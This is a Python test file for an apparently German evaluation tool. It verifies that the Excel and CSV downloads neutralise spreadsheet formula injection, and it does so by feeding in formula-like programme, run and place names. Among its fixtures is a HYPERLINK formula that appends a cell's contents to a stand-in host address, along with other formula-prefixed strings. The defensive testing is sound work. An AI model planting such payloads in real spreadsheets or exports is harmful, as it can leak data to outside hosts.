"""Issue 12, point 7: every evaluation export keeps formula-like names as text.

Programmes, runs and places named like spreadsheet formulas go through the key figures, the
time-to-work curves and the notes into the Excel and CSV downloads: no cell of the workbook
is a formula (openpyxl ``data_type`` "s", not "f") and every such CSV field starts with "'".
"""

from __future__ import annotations

import csv
import datetime as dt
import io

import pandas as pd
from openpyxl import load_workbook

from neue_wege.core.spreadsheet import FORMULA_STARTS
from neue_wege.evaluation import exports
from neue_wege.evaluation.selectors import Evaluation, Filters
from neue_wege.evaluation.stats import keyfigures as kf
from neue_wege.evaluation.stats import survival

NAMES = ['=HYPERLINK("http://x"&B3,"Details")', "-Neustart", "+Plus", "@Kurs", "\tTab",
         "\rZeile"]
DATA_DATE = dt.date(2025, 12, 31)


def hostile_evaluation() -> Evaluation:
    rows = []
    for index, name in enumerate(NAMES):
        for person in range(6):
            rows.append({
                "programme": name, "version": 1, "run": f"{name} {index}", "location": name,
                "target_group": "unter 25", "year": 2024, "completed": person < 5,
                "attendance": 0.9, "run_start": "2024-02-05", "run_end": "2024-04-26",
                "work_start": "2024-06-03" if person < 5 else None, "benefit_exit_on": None,
                "in_work_12m": None, "sa_start": float("nan"), "sa_end": float("nan")})
    frame = pd.DataFrame(rows)
    result = Evaluation(filters=Filters(), data_date=DATA_DATE, n_enrollments=len(frame))
    result.tables = kf.key_figure_tables(kf.prepare(frame, pd.Timestamp(DATA_DATE)),
                                         kf.DIMENSIONS)
    result.curves = survival.curves_by(frame, "programme", pd.Timestamp(DATA_DATE))
    return result


def test_excel_download_has_no_formula_cell():
    book = load_workbook(io.BytesIO(exports.xlsx(hostile_evaluation(), NAMES[0])))
    cells = [cell for sheet in book for row in sheet.iter_rows() for cell in row
             if cell.value is not None]
    names = {name.replace("\r", "\n") for name in NAMES}  # XML reads CR back as LF
    assert [c.coordinate for c in cells if c.data_type == "f"] == []
    hostile = [c for c in cells if isinstance(c.value, str) and c.value.startswith(FORMULA_STARTS)]
    assert {c.value for c in hostile} >= names
    assert all(c.data_type == "s" and c.quotePrefix for c in hostile)


def test_csv_download_prefixes_every_formula_like_field():
    text = exports.csv_text(hostile_evaluation(), NAMES[0])
    fields = [field for row in csv.reader(io.StringIO(text.lstrip("\ufeff")), delimiter=";")
              for field in row]
    assert [f for f in fields if f.startswith(FORMULA_STARTS)] == []
    for name in NAMES:
        assert "'" + name in fields, name
